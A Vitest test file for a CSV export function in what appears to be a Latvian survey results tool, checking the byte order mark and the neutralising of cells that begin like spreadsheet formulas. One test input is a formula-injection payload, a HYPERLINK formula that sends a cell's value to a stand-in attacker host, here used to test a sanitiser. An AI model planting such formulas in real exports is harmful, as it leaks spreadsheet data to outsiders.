import { describe, expect, it } from 'vitest';
import { toCsv, type OpenDataRow } from '../../../src/lib/results/open-data.ts';

const row = (label: string, mean: number | null = 42.5): OpenDataRow => ({
  scope: 'criterion',
  id: '1',
  kind: 'enabler',
  labels: { lv: label },
  n: 5,
  missing: 0,
  mean,
  median: null,
  q1: null,
  q3: null,
  bands: null,
  dimensions: null,
  hidden: false,
});

describe('results.csv', () => {
  it('starts with a byte order mark so spreadsheets read ā, č, ē as UTF-8', () => {
    const csv = toCsv([row('Vadība')], ['lv']);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toContain('Vadība');
  });

  it.each([
    [
      '=HYPERLINK("https://evil.example/?x="&A1,"Atvērt")',
      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Atvērt"")"`,
    ],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', `"'\rx"`],
  ])('turns a text that starts like a formula into plain text: %s', (label, cell) => {
    const line = toCsv([row(label)], ['lv']).split('\r\n')[1];
    expect(line).toContain(`,${cell},`);
  });

  it('leaves numbers and ordinary text as they are', () => {
    const line = toCsv([row('Vadība, plānošana', 12)], ['lv']).split('\r\n')[1];
    expect(line).toBe('criterion,1,enabler,"Vadība, plānošana",5,0,12,,,,,,');
  });
});
